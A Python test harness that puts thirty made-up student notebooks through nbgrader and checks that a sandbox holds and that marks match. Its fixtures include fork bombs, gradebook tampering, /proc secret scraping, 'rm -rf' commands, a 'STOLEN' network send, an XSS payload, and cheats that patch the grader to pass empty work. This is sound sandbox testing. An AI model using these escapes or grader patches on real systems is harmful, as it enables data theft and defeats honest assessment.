"""A class of thirty made-up students, marked by nbgrader from first to last.

python tests/classroom.py [exercise]        (04_operations when none is named)

Copies the course to a temporary folder, hands in what thirty students might, collects, marks,
gives back and exports, all by nbgrader's own commands; then says for each student which marks were
planted and which were given. Ends with an error when they differ.
"""

import copy
import csv
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

from exercises import EXERCISES, answers, cells, tasks

sys.path.insert(0, str(EXERCISES))
from wall import why_no_wall  # noqa: E402

LEFT_OUT = shutil.ignore_patterns(
    "gradebook.db", "submitted", "autograded", "feedback", "downloaded", "*.csv", ".*"
)
SECRET = "the-password-of-the-teacher"
# What a program behind a wall cannot reach; it listens while the class is marked.
LISTENER = socket.socket(type=socket.SOCK_DGRAM)
LISTENER.bind(("127.0.0.1", 0))
LISTENER.setblocking(False)

# What a submission may do in the cell of its first answer. Each costs that task and no more.
TROUBLE = {
    "endless-loop": "while True:\n    pass",
    "stubborn-loop": """
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
""",
    "dies": "import ctypes\n\nctypes.string_at(0)",
    "all-the-memory": "hoard = []\nwhile True:\n    hoard.append(bytearray(10**8))",
    "processes-without-end": "import os\n\nwhile True:\n    os.fork()",
    # The teacher's own Jupyter imports it, see `nbgrader`.
    "forgets-an-import": "np.sqrt(4.0)",
    "reaches-for-marks": """
import sqlite3

def by_uri():
    return sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True)

def attached():
    memory = sqlite3.connect(":memory:")
    memory.execute("ATTACH '@COURSE@/gradebook.db' AS book")
    return memory

for way in (by_uri, attached):
    try:
        with way() as book:
            book.execute("UPDATE grade SET manual_score = 12")
            book.execute("UPDATE student SET last_name = 'Nobody'")
        print("REACHED", way.__name__)
    except sqlite3.Error as refused:
        print("refused:", refused)
""",
    "reaches-for-files": """
import os
import sys

def beside(path):
    return {"dir_fd": os.open(os.path.dirname(path), os.O_RDONLY)}

solved = "@COURSE@/source/04_operations/04_operations.ipynb"
for way in (
    lambda: os.open(solved, os.O_RDONLY),
    lambda: os.open("04_operations.ipynb", os.O_RDONLY, **beside(solved)),
    lambda: os.open("/harmed", os.O_WRONLY | os.O_CREAT),
    lambda: os.mkdir("harmed", **beside("@COURSE@/source")),
    lambda: os.mkdir("harmed", **beside("/library/inside.py")),
    lambda: os.rename("@COURSE@/source", "@COURSE@/harmed"),
    lambda: os.rename("/library/inside.py", "/home/inside.py"),
    lambda: os.mkfifo("@COURSE@/harmed"),
    lambda: os.mkfifo("/handed-in/harmed"),
    lambda: os.mknod("/dev/shm/harmed"),
    lambda: os.setxattr("@COURSE@/source", "user.harmed", b"1"),
    lambda: os.setxattr("/usr/lib", "user.harmed", b"1"),
    lambda: os.chroot("/usr"),
):
    try:
        way()
        print("REACHED a file")
    except OSError as refused:
        print("refused:", refused)
for folder, folders, names in os.walk("/"):
    if folder in ("/dev", "/proc", "/usr", sys.prefix, sys.base_prefix):
        folders.clear()
    if folder in ("/home", "/handed-in"):
        names = [name for name in names if name != "04_operations.ipynb"]
    for name in names:
        if name.endswith((".ipynb", ".db", ".csv", "nbgrader_config.py")):
            print("REACHED", folder, name)
print("looked everywhere")
""",
    "reaches-for-secrets": """
import os

def all_of(path):
    with open(path, "rb") as file:
        return file.read()

for process in filter(str.isdigit, os.listdir("/proc")):
    for file in ("environ", "cmdline"):
        found = all_of(f"/proc/{process}/{file}")
        if b"the-password" + b"-of" in found or b"gradebook" in found:
            print("REACHED a secret")
print("looked everywhere")
""",
    "reaches-for-programs": """
import _posixsubprocess
import multiprocessing
import os
import subprocess

outside = "rm -rf @COURSE@/submitted @COURSE@/source; touch @COURSE@/harmed"
print(subprocess.run(outside, shell=True, capture_output=True))
worker = multiprocessing.get_context("spawn").Process(target=os.system, args=(outside,))
worker.start()
worker.join(5)
for process in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if process not in (1, os.getpid(), os.getppid()):
        os.kill(process, 9)
""",
    "ends-what-runs-it": "import os\n\nos.kill(os.getppid(), 9)",
    "reaches-for-the-network": """
import socket
import urllib.request

for way in (
    lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"STOLEN", ("192.0.2.1", 53)),
    lambda: socket.getaddrinfo("example.org", 80),
    lambda: urllib.request.urlopen("http://127.0.0.1:8888", timeout=2),
    lambda: socket.create_connection(("192.0.2.1", 80), timeout=2),
):
    try:
        way()
        print("REACHED the network")
    except OSError as refused:
        print("refused:", refused)
socket.socket(type=socket.SOCK_DGRAM).sendto(b"STOLEN", ("127.0.0.1", @PORT@))
""",
}
# Where there is no wall, only these of them hand in: the others would do harm.
HARMLESS = {"endless-loop", "stubborn-loop", "dies", "forgets-an-import"}
# What a submission without any answer may do in its first cell to get marks all the same.
CHEATS = {
    "replaces-the-checks": """
import builtins

import scalarad.exercises
from scalarad.exercises import judge


def pleased(*arguments, **options):
    print("Right: that is it.")
    return judge.Verdict("Right", "that is it.")


class Anything(float):
    def __eq__(self, other):
        return True


scalarad.exercises.demand = judge.demand = judge.judge = judge.verdict_on = pleased
judge.same = lambda *arguments: True
judge.look = lambda *arguments: {"seen": dict.fromkeys(map(str, range(9)), Anything())}
usual = builtins.__import__


def importing(name, *arguments):
    module = usual(name, *arguments)
    if name == "inside":
        module.observe = pleased
    return module


builtins.__import__ = importing
""",
    "asks-for-known-answers": """
from scalarad.exercises import judge

usual = judge.look


def with_known_answers(task, answer, inputs):
    return usual(task, task.given(task.known_answers[0]), inputs)


judge.look = with_known_answers
""",
    "speaks-for-the-wall": """
import json
import os

says = {"ended": "well", "outputs": [], "found": {"seen": {}}, "word": "Right", "mark": 9}
for file in os.listdir(f"/proc/{os.getppid()}/fd"):
    try:
        pipe = os.open(f"/proc/{os.getppid()}/fd/{file}", os.O_WRONLY | os.O_NONBLOCK)
        os.write(pipe, (json.dumps(says) + "\\n").encode() * 20 + b"[" * 100_000 + b"\\n")
    except OSError:
        pass
""",
}
SCRIPT = "<script>steal()</script><img src=x onerror=steal()>"

# The limits of the course are for a machine that does nothing else. On a busy one only a loop
# without end is sure to reach them, so all others get more.
AT_ONCE = "--RunAndJudge.seconds=5"
PATIENTLY = ["--RunAndJudge.seconds=60", "--RunAndJudge.seconds_in_all=600"]
FLAGS = ["--Marking.without_wall=True"] if why_no_wall() else []


def submission(name, written):
    """The released notebook with `written`, a dict from tasks to Python, in its answer cells."""
    path = EXERCISES / "release" / name / f"{name}.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    for cell in notebook["cells"]:
        kept = cell["metadata"].get("nbgrader", {})
        if kept.get("grade_id") in written:
            cell["source"] = written[kept["grade_id"]]
        elif kept.get("solution") and kept.get("grade"):
            cell["source"] = "In my own words: it depends."
    return notebook


def class_of_thirty(name):
    """What thirty students hand in: a dict from the student to the file's text and their marks.

    Marks are a dict from each task to its points, as planted. Known mistakes that have a text are
    made by those in trouble and by four others.
    """
    known = cells("source", name)
    points = {task: known[f"{task}-check"][0]["points"] for task in tasks(name)}
    solved = {t: known[t][1] for t in points}
    also = solved | {a.task: a.source for a in answers(name) if not a.words}
    left = {t: [a.source for a in answers(name) if a.task == t and a.words] for t in points}
    first, *others = points
    nothing = dict.fromkeys(points, 0)
    students = {}

    def enrol(student, notebook, marks=points):
        text = notebook if isinstance(notebook, str) else json.dumps(notebook)
        students[student] = text, marks

    def mistakes_left(among):
        return {t: left[t].pop(0) for t in among if left[t]}

    enrol("right-1", submission(name, solved))
    enrol("right-2", submission(name, also))
    for trouble, source in TROUBLE.items():
        made = {first: source} | mistakes_left(others)
        enrol(trouble, submission(name, solved | made), points | dict.fromkeys(made, 0))
    for i in range(1, 5):
        made = mistakes_left(points)
        enrol(f"wrong-{i}", submission(name, also | made), points | dict.fromkeys(made, 0))
    for cheat, source in CHEATS.items():
        notebook = submission(name, {})
        notebook["cells"].insert(0, own_cell("code", source))
        enrol(cheat, notebook, nothing)
    thousand = 'print("\\n".join(f"line {i}{k:03}" for k in range(1000)))'
    shouting = f"for i in range(1000):\n    {thousand}\n"
    enrol("prints-a-million-lines", submission(name, solved | {first: shouting + solved[first]}))
    enrol("empty-answers", submission(name, {}), nothing)
    enrol("no-notebook", "My dog ate it.", nothing)
    last = {others[-1], f"{others[-1]}-check"}
    enrol("deletes-a-task", without(submission(name, solved), last), points | {others[-1]: 0})
    enrol("deletes-what-was-handed-out", without(submission(name, solved), "locked"))
    backwards = submission(name, solved)
    backwards["cells"].reverse()
    enrol("out-of-order", backwards)
    enrol("from-another-program", from_another_program(submission(name, solved)))
    twice = submission(name, solved)
    place = next(i for i, cell in enumerate(twice["cells"]) if cell["source"] == solved[first])
    twice["cells"].insert(place + 1, twice["cells"][place] | {"id": "copy", "source": "1 / 0"})
    enrol("copies-an-answer", twice)
    scripted = submission(name, solved)
    show = f"from IPython.display import HTML\n\nHTML({SCRIPT!r})"
    scripted["cells"] += [own_cell("markdown", SCRIPT), own_cell("code", show)]
    scripted["cells"][-3]["source"] = f"In my own words: {SCRIPT}"
    scripted["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {}}
    enrol("writes-a-script", scripted)
    return students


def own_cell(kind, source):
    """A cell that a student has added."""
    more = {"outputs": [], "execution_count": None} if kind == "code" else {}
    return {"cell_type": kind, "id": "own-" + kind, "metadata": {}, "source": source} | more


def from_another_program(notebook):
    """The notebook without ids and without all that nbgrader wrote into it, in an older format."""
    notebook["nbformat_minor"] = 4
    for cell in notebook["cells"]:
        del cell["id"]
        cell["metadata"] = {}
    return notebook


def without(notebook, unwanted):
    """The notebook without the cells named, or without all that are what `unwanted` says."""
    notebook = copy.deepcopy(notebook)
    notebook["cells"] = [
        cell
        for cell in notebook["cells"]
        if not (kept := cell["metadata"].get("nbgrader"))
        or not (kept["grade_id"] in unwanted if isinstance(unwanted, set) else kept[unwanted])
    ]
    return notebook


# nbformat can do without that module, whose import takes seconds each time.
NBGRADER = """
import runpy
import sys

sys.modules["rfc3987_syntax"] = None
runpy.run_module("nbgrader", run_name="__main__")
"""


def nbgrader(course, *arguments):
    """Run one of nbgrader's commands in the course; returns what it says, RuntimeError if it fails.

    It runs as a teacher who has a secret, and whose IPython imports numpy at each start.
    """
    home = course.parent
    startup = home / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True, exist_ok=True)
    (startup / "usual.py").write_text("import numpy as np\n", encoding="utf-8")
    (home / "tmp").mkdir(exist_ok=True)
    own = {"HOME": str(home), "USERPROFILE": str(home), "IPYTHONDIR": str(home / ".ipython")}
    own["TMPDIR"] = str(home / "tmp")
    done = subprocess.run(
        [sys.executable, "-c", NBGRADER, *arguments],
        cwd=course,
        env=os.environ | own | {"PASSWORD": SECRET},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
    )
    if done.returncode:
        quiet = [x for x in done.stderr.splitlines() if not re.search("INFO|WARNING", x)]
        raise RuntimeError("\n".join([f"nbgrader {' '.join(arguments)}:", *quiet]))
    return done.stderr


def those_who_may(students):
    """The students whose submissions may run here: all of them only where there is a wall."""
    harmful = TROUBLE.keys() - HARMLESS if why_no_wall() else ()
    return {student: work for student, work in students.items() if student not in harmful}


def hand_in(course, name, students):
    """Put the files of the students where nbgrader collects them."""
    for student, (text, _) in students.items():
        folder = course / "downloaded" / name / "archive" / student
        folder.mkdir(parents=True)
        file = f"{name} (1).ipynb" if student == "right-2" else f"{name}.ipynb"
        (folder / file).write_text(written(text, course), encoding="utf-8")


def written(text, course):
    """The file of a student who knows where the course is, and who listens."""
    port = LISTENER.getsockname()[1]
    return text.replace("@COURSE@", str(course)).replace("@PORT@", str(port))


def marks_given(course, name):
    """What the gradebook holds: a dict from the student to a dict from tasks to points."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course}/gradebook.db", "scalarad") as gradebook:
        return {
            s.student.id: {
                g.cell.name.removesuffix("-check"): g.score
                for n in s.notebooks
                for g in n.grades
                if g.cell.name.endswith("-check")
            }
            for s in gradebook.assignment_submissions(name)
        }


def files(folder):
    """Every file below the folder, and its bytes."""
    return {p: p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def mark(course, name, students):
    """The whole loop in `course`, a folder that does not exist yet; returns what was said."""
    shutil.copytree(EXERCISES, course, ignore=LEFT_OUT)
    nbgrader(course, "generate_assignment", name)
    hand_in(course, name, students)
    nbgrader(course, "zip_collect", name)
    said = nbgrader(course, "autograde", name, *FLAGS, "--student=*-loop", AT_ONCE)
    said += nbgrader(course, "autograde", name, *FLAGS, *PATIENTLY)  # all who have no marks yet
    nbgrader(course, "generate_feedback", name)
    nbgrader(course, "export")
    return said


def totals(course):
    """The marks of the exported table, by student."""
    with open(course / "grades.csv", newline="", encoding="utf-8") as table:
        return {row["student_id"]: float(row["score"]) for row in csv.DictReader(table)}


def main(name="04_operations"):
    students = those_who_may(class_of_thirty(name))
    if why := why_no_wall():
        print(f"There is no wall here ({why}): who would do harm does not hand in.")
    with tempfile.TemporaryDirectory() as folder:
        course = Path(folder, "course")
        mark(course, name, students)
        given = marks_given(course, name)
    wrong = 0
    for student, (_, planted) in students.items():
        got = given.get(student)
        wrong += got != planted
        verdict = "as planted" if got == planted else f"WRONG: {got}"
        print(f"{student:28} {sum((got or {}).values()):2.0f} points, {verdict}")
    if wrong:
        sys.exit(f"The marks of {wrong} students are not those that were planted.")


if __name__ == "__main__":
    main(*sys.argv[1:])
